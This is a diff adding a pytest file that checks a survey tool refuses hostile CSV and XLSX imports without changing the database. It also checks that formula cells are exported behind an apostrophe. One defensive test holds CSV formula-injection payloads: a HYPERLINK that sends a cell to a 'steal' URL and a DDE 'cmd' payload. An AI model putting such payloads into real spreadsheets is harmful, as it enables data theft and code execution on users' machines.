@@ -1,0 +1,169 @@
+"""Hostile flat files: each file of tests/data/bad is refused quickly, in its own words, and
+leaves every row of every table as it was.
+
+`tests/data/bad/expected.yaml` lists the files, what each is, and the problems its import must
+list, exactly as the command line prints them. The ones too big to commit are built into
+tmp_path by `tests/data/bad/make_corpus.py`. Each import goes into a wave that already holds
+answers, with `replace`, so a half-written import could not hide.
+"""
+
+from __future__ import annotations
+
+import csv
+import importlib.util
+import io
+import time
+from pathlib import Path
+
+import pytest
+import yaml
+from sqlalchemy.orm import Session
+
+import survey_cli
+from db.actor import Actor
+from db.flatfile import ImportRefused, export_wave, import_wave
+from db.interviews import instrument_named
+from tests.conftest import REPO, table_checksums
+from tests.test_flatfile import cli_database  # noqa: F401  (the CLI on the test database)
+from tests.wave_builder import build_wave, changed, columns, csv_bytes, read_csv_rows, row_of
+
+BAD = REPO / "tests" / "data" / "bad"
+CORPUS: dict[str, dict] = yaml.safe_load((BAD / "expected.yaml").read_text(encoding="utf-8"))  # type: ignore[type-arg]
+CORPUS_TOOLS = ("make_corpus.py", "expected.yaml", ".gitattributes")
+AUDITOR = Actor("auditor", "auditor")
+WAVE = "2011"
+# Any hostile file, on a busy shared machine: generous, yet far below what reading a 10 MB cell
+# or 100,000 rows the slow way takes.
+SECONDS = 5.0
+
+_spec = importlib.util.spec_from_file_location("make_corpus", BAD / "make_corpus.py")
+make_corpus = importlib.util.module_from_spec(_spec)  # type: ignore[arg-type]
+_spec.loader.exec_module(make_corpus)  # type: ignore[union-attr]
+
+
+def corpus_file(name: str, folder: Path) -> Path:
+    return make_corpus.make(name, folder) if CORPUS[name].get("generated") else BAD / name
+
+
+@pytest.fixture
+def answered(session: Session) -> Session:
+    """Wave 2011 as fieldwork leaves it: every council's row imported, answers in place."""
+    instrument = instrument_named("schedule_2011")
+    data = csv_bytes(build_wave(instrument), columns(instrument))
+    import_wave(session, actor=AUDITOR, wave_key=WAVE, data=data, filename="wave.csv")
+    return session
+
+
+# --- the corpus itself ------------------------------------------------------------------------
+
+
+def test_corpus__at_least_25_files__each_on_disk_or_generated_and_each_with_its_message() -> None:
+    on_disk = sorted(p.name for p in BAD.iterdir() if p.name not in CORPUS_TOOLS)
+    committed = sorted(name for name, entry in CORPUS.items() if not entry.get("generated"))
+    generated = sorted(name for name, entry in CORPUS.items() if entry.get("generated"))
+
+    assert on_disk == committed
+    assert generated == sorted(make_corpus.GENERATED)
+    assert len(CORPUS) >= 25
+    assert all(entry["problems"] and entry["about"] for entry in CORPUS.values())
+    assert {Path(name).suffix for name in CORPUS} == {".csv", ".xlsx"}
+
+
+# --- every file refused, in its own words, nothing written -------------------------------------
+
+
+@pytest.mark.parametrize("name", list(CORPUS))
+def test_hostile_file__refused_quickly_with_every_problem__database_unchanged(
+    answered: Session, tmp_path: Path, name: str
+) -> None:
+    path = corpus_file(name, tmp_path)
+    before = table_checksums(answered)
+
+    started = time.perf_counter()
+    with pytest.raises(ImportRefused) as refused:
+        import_wave(
+            answered,
+            actor=AUDITOR,
+            wave_key=WAVE,
+            data=path.read_bytes(),
+            filename=path.name,
+            replace=True,
+        )
+    seconds = time.perf_counter() - started
+
+    assert [str(p) for p in refused.value.problems] == CORPUS[name]["problems"]
+    assert seconds < SECONDS, f"{name} took {seconds:.1f} s to refuse"
+    assert table_checksums(answered) == before, "a refused import changed the database"
+    answered.rollback()
+    assert table_checksums(answered) == before
+
+
+@pytest.mark.usefixtures("cli_database")
+@pytest.mark.parametrize("name", [name for name, entry in CORPUS.items() if entry.get("cli")])
+def test_cli_import__hostile_file__exit_1_and_every_problem_on_stderr(
+    answered: Session,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    name: str,
+) -> None:
+    path = corpus_file(name, tmp_path)
+    before = table_checksums(answered)
+    answered.rollback()
+
+    assert survey_cli.main(["import", str(path), "--wave", WAVE, "--replace"]) == 1
+
+    out, err = capsys.readouterr()
+    problems = CORPUS[name]["problems"]
+    assert out == ""
+    assert err.splitlines() == [
+        f"{path}: import refused, nothing was written.",
+        f"{len(problems)} problem(s):",
+        *(f"  - {p}" for p in problems),
+    ]
+    assert table_checksums(answered) == before
+
+
+def test_flood_of_problems__first_100_listed__the_rest_counted(session: Session) -> None:
+    data = (BAD / "every_cell_wrong.csv").read_bytes()
+
+    with pytest.raises(ImportRefused) as refused:
+        import_wave(session, actor=AUDITOR, wave_key=WAVE, data=data, filename="flood.csv")
+
+    assert refused.value.total == 136
+    assert len(refused.value.problems) == 101
+    assert str(refused.value.problems[-1]) == (
+        "… and 36 more problems not shown (136 in all); fix these and import again to see the rest"
+    )
+
+
+# --- formulas: text in a free-text cell, refused anywhere else ---------------------------------
+
+
+def test_formula_in_a_free_text_cell__kept_as_typed_and_exported_behind_an_apostrophe(
+    session: Session,
+) -> None:
+    """A CSV written by a script has no protecting apostrophe. The cell is text all the same:
+    nothing runs it here, and the export writes it so that no spreadsheet will either."""
+    instrument = instrument_named("schedule_2011")
+    payloads = {
+        "q2_explain": '=HYPERLINK("http://example.org/steal?d="&A1,"Click for details")',
+        "q4_influence_example": "+cmd|' /C calc'!A0",
+        "q6_why_least": "-2+3",
+        "q7_explain": "@SUM(A1:A2)",
+        "interviewer": "=1+1",
+    }
+    angus = row_of(changed(build_wave(instrument), {"Angus": payloads}), "Angus")
+    header = columns(instrument)
+    out = io.StringIO(newline="")
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerows([header, [angus[c] for c in header]])  # raw: no apostrophes at all
+
+    import_wave(
+        session, actor=AUDITOR, wave_key=WAVE, data=out.getvalue().encode(), filename="raw.csv"
+    )
+
+    exported = export_wave(session, actor=AUDITOR, wave_key=WAVE, fmt="csv")
+    raw_header, *raw_rows = csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""))
+    written = dict(zip(raw_header, raw_rows[2], strict=True))
+    assert {c: written[c] for c in payloads} == {c: "'" + v for c, v in payloads.items()}
+    assert {c: row_of(read_csv_rows(exported), "Angus")[c] for c in payloads} == payloads
